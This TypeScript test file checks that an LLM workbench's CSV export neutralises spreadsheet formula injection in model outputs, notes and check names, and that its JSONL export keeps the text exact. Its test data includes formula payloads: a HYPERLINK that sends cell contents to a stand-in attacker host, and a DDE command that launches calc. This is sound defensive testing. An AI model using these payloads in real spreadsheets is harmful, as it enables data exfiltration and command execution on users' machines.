// A CSV export opened in a spreadsheet shows outputs and notes as text: an output or a note that
// starts like a formula (=, +, -, @, tab, carriage return) is never evaluated. Real run through
// the Ollama SDK against the fake server, real database, the real `workbench export`.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api } from '../../shared/api';
import { openCore } from '../../electron/core/core';
import { parseCsv } from '../support/csvParse';
import { startFakeProvider, type FakeProvider } from '../support/fakeProviders/fakeServer';
import { makeTempDir, removeDir } from '../support/tempDir';
import { runWorkbench } from '../support/workbenchCli';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

let root: string;
let ws: string;
let ollama: FakeProvider;
let runId: string;

beforeAll(async () => {
  root = makeTempDir();
  ws = path.join(root, 'ws');
  expect(runWorkbench(['init', '--workspace', ws]).status).toBe(0);
  ollama = await startFakeProvider({ kind: 'ollama' });
  for (const text of HOSTILE) ollama.inject({ fault: { type: 'reply', text } });
  const core = await openCore({ workspaceDir: ws, starterDir: path.join(ws, 'prompts'), create: false, env: { OLLAMA_HOST: ollama.url } });
  try {
    const started = await core.api.startRun(
      api.methods.startRun.input.parse({ prompt: 'capital-city', models: ['ollama/llama3.2'], temperatures: [0], samples: HOSTILE.length, cases: ['Japan (easy)'], concurrency: 1, confirmed: true }),
    );
    runId = started.runId;
    const detail = await core.runs.finished(runId);
    expect(detail.ok).toBe(HOSTILE.length);
    const samples = (await core.api.getRun({ runId })).samples;
    for (const [i, sample] of samples.entries()) await core.api.setSampleNote({ runId, sampleId: sample.sampleId, note: HOSTILE[(i + 1) % HOSTILE.length] ?? null });
  } finally {
    await core.close();
  }
}, 60_000);

afterAll(async () => {
  await ollama.close();
  removeDir(root);
});

describe('CSV export', () => {
  it('writes outputs and notes that start like formulas as text, each prefixed with a quote', () => {
    const file = path.join(root, 'export.csv');
    const result = runWorkbench(['export', runId, '--format', 'csv', '--output', file, '--workspace', ws]);
    expect(result.status, result.stderr).toBe(0);
    const [header, ...rows] = parseCsv(fs.readFileSync(file, 'utf8').replace(/\r?\n$/, ''));
    const output = header?.indexOf('output') ?? -1;
    const note = header?.indexOf('note') ?? -1;
    expect(rows).toHaveLength(HOSTILE.length);
    expect(rows.map((row) => row[output]).sort()).toEqual(HOSTILE.map((text) => `'${text}`).sort());
    expect(rows.map((row) => row[note]).sort()).toEqual(HOSTILE.map((text) => `'${text}`).sort());
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes the names of failed checks that start like formulas as text too', () => {
    // A check's name is the prompt author's text, and lands in the failedChecks column.
    const cases = path.join(ws, 'prompts', 'capital-city.cases.yaml');
    const original = fs.readFileSync(cases, 'utf8');
    fs.writeFileSync(cases, original.replace('    - equals: Tokyo\n', `    - equals: Tokyo\n      name: '${HOSTILE[0]?.replace(/'/g, "''")}'\n`));
    try {
      const file = path.join(root, 'export-checks.csv');
      expect(runWorkbench(['export', runId, '--format', 'csv', '--output', file, '--workspace', ws]).status).toBe(0);
      const [header, ...rows] = parseCsv(fs.readFileSync(file, 'utf8').replace(/\r?\n$/, ''));
      const failed = header?.indexOf('failedChecks') ?? -1;
      // No reply is "Tokyo", so every row failed the named check; the one long reply failed the word limit first.
      expect(rows.map((row) => row[failed]).sort()).toEqual([...rows.slice(1).map(() => `'${HOSTILE[0]}`), `just the city's name; ${HOSTILE[0]}`].sort());
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    } finally {
      fs.writeFileSync(cases, original);
    }
  });

  it('leaves the JSON lines export as the exact text', () => {
    const result = runWorkbench(['export', runId, '--format', 'jsonl', '--workspace', ws]);
    expect(result.status).toBe(0);
    const outputs = result.stdout.trim().split('\n').map((line) => (JSON.parse(line) as { output: string }).output);
    expect(outputs.sort()).toEqual([...HOSTILE].sort());
  });
});
